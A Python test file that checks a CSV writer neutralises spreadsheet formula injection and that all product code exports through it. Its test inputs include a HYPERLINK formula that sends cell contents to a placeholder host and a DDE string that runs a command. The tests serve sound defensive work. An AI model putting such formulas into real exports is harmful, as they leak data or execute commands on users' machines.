"""One CSV writer for every export (core/csvsafe.py): no cell starts a formula."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from core import csvsafe

ROOT = Path(__file__).resolve().parents[2]


def written(*cells) -> list[str]:
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow(cells)
    return next(csv.reader(io.StringIO(buffer.getvalue())))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://x.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_each_formula_prefix_is_neutralised(cell):
    (out,) = written(cell)
    assert out == "'" + cell
    assert out[0] not in "=+-@\t\r"


def test_ordinary_text_and_numbers_are_unchanged():
    assert written("Acme Bank, N.A.", 12, Decimal("-12.50"), "", "'quoted") == [
        "Acme Bank, N.A.",
        "12",
        "-12.50",
        "",
        "'quoted",
    ]


def test_writerows_neutralises_every_row():
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerows([["=1"], ["@2"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1"], ["'@2"]]


def _product_python_files():
    for path in ROOT.rglob("*.py"):
        parts = path.relative_to(ROOT).parts
        if parts[0] in {"tests", ".venv", "node_modules"} or "migrations" in parts:
            continue
        if path == ROOT / "core" / "csvsafe.py":
            continue
        yield path


def test_product_code_writes_csv_only_through_csvsafe():
    """csv.writer / csv.DictWriter anywhere else would skip the formula rule."""
    offenders = []
    for path in _product_python_files():
        tree = ast.parse(path.read_text(), filename=str(path))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ) or (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and any(a.name in {"writer", "DictWriter"} for a in node.names)
            ):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, offenders
